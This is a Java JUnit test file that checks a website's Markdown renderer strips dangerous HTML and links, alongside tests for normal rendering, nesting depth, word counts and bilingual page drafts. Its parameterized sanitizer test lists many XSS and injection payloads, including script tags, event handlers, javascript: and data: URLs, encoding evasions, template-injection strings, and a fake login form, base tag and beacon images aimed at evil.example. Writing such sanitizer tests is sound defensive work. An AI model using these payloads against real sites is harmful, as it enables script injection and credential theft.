package org.plenary.site.page;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PageMarkdownTests {
    /** The tags that a page may have, written as the drawing writes them. */
    private static final Pattern TAG = Pattern.compile("<(/?[a-zA-Z][^>]*)>");

    private static final Pattern HARMLESS = Pattern.compile(
            "/?(?:p|br|hr|strong|em|code|pre|blockquote|ul|ol|li|h[2-6]|"
                    + "table|thead|tbody|tr|th|td|a|img)(?: (?:href|title|rel|src|alt|loading|id|align|start)=\"[^\"]*\")* ?/?");
    private static final Pattern ADDRESS = Pattern.compile("(?:href|src)=\"([^\"]*)\"");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<style>body{display:none}</style>",
                "<p style=\"position:fixed\" onclick=\"alert(1)\">x</p>",
                "<!-- <script>alert(1)</script> -->",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo 1 ?><script>alert(1)</script>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<form action=//evil.example><input name=password></form>",
                "<base href=//evil.example>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java\tscript:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x]( javascript:alert(1) )",
                "[x](\u0001javascript:alert(1))",
                "[x](vbscript:msgbox(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](file:///etc/passwd)",
                "<javascript:alert(1)>",
                "[x]: javascript:alert(1)\n\n[x]",
                "[x](https://ok.example \"title\" onmouseover=alert(1))",
                "[x](https://ok.example 'a\" onmouseover=alert(1) b=\"')",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml,<svg onload=alert(1)>)",
                "![x](https://evil.example/beacon.png)",
                "![x](//evil.example/beacon.png)",
                "![x](/brand/logo)",
                "![x](/pages/files/../../logout)",
                "![\" onerror=\"alert(1)](/pages/files/0190a2b4-0000-7000-8000-000000000000)",
                "# <img src=x onerror=alert(1)>",
                "# content",
                "| a |\n|---|\n| <script>alert(1)</script> |",
                "```html onload=alert(1)\n<script>alert(1)</script>\n```",
                "```\"><script>alert(1)</script>\n```",
                "`<script>alert(1)</script>`",
                "> <img src=x onerror=alert(1)>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "\u202Ex<script>alert(1)</script>",
                "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "%3Cscript%3Ealert(1)%3C/script%3E",
                "<a name=\"content\" id=\"content\">x</a>",
                "${T(java.lang.Runtime).getRuntime()} [[${7*7}]] {{7*7}}",
            })
    void nothingNastyComesThrough(String markdown) {
        var html = PageMarkdown.html(markdown);

        TAG.matcher(html).results().forEach(tag -> assertThat(tag.group(1)).matches(HARMLESS));
        ADDRESS.matcher(html)
                .results()
                .forEach(address -> assertThat(address.group(1).toLowerCase(Locale.ROOT))
                        .matches("(https://ok\\.example|/pages/files/0190a2b4-0000-7000-8000-000000000000).*"));
        // the sanitizer's own, between the braces of template languages
        assertThat(html.replace("<!-- -->", ""))
                .doesNotContain("id=\"content\"")
                .doesNotContain("<!--");
    }

    @Test
    void whatMarkdownIsForIsDrawn() {
        var html = PageMarkdown.html("""
                # Getting there

                Take **line 6** to [the venue](https://venue.example/map), or read [the rest](/pages/faq).

                | From | Minutes |
                |---|--:|
                | Airport | 40 |

                ![Map](/pages/files/0190a2b4-0000-7000-8000-000000000000)

                3. three
                """);

        assertThat(html)
                .contains("<h2 id=\"s-getting-there\">Getting there</h2>")
                .contains("<strong>line 6</strong>")
                .contains("<a rel=\"noopener\" href=\"https://venue.example/map\">the venue</a>")
                .contains("<a href=\"/pages/faq\">the rest</a>")
                .contains("<td align=\"right\">40</td>")
                .contains("src=\"/pages/files/0190a2b4-0000-7000-8000-000000000000\"")
                .contains("loading=\"lazy\"")
                .contains("<ol start=\"3\">");
    }

    @Test
    void deepNestingTakesNoTime() {
        var deep = ">".repeat(20_000) + "[".repeat(10_000) + "*a ".repeat(10_000);

        org.junit.jupiter.api.Assertions.assertTimeout(java.time.Duration.ofSeconds(5), () -> PageMarkdown.html(deep));
    }

    @Test
    void wordsAreCountedInBothLanguages() {
        assertThat(PageMarkdown.words("## Getting *there* – by rail, don't walk"))
                .isEqualTo(6);
        assertThat(PageMarkdown.words("欢迎参加ICRA 2027")).isEqualTo(6);
        assertThat(PageMarkdown.words("")).isZero();
    }

    @Test
    void theReadyDraftsAreInBothLanguages() {
        for (var name : PageDrafts.NAMES) {
            var draft = PageDrafts.of(name, "Robotics Society").orElseThrow();

            var checked = draft.checked();
            assertThat(checked.content().text().values()).containsOnlyKeys("en", "zh-CN");
            assertThat(checked.content().title().values()).containsOnlyKeys("en", "zh-CN");
            assertThat(checked.content().text().values().values())
                    .allSatisfy(text ->
                            assertThat(PageMarkdown.html(text)).contains("<h2").doesNotContain("{organization}"));
        }
    }
}
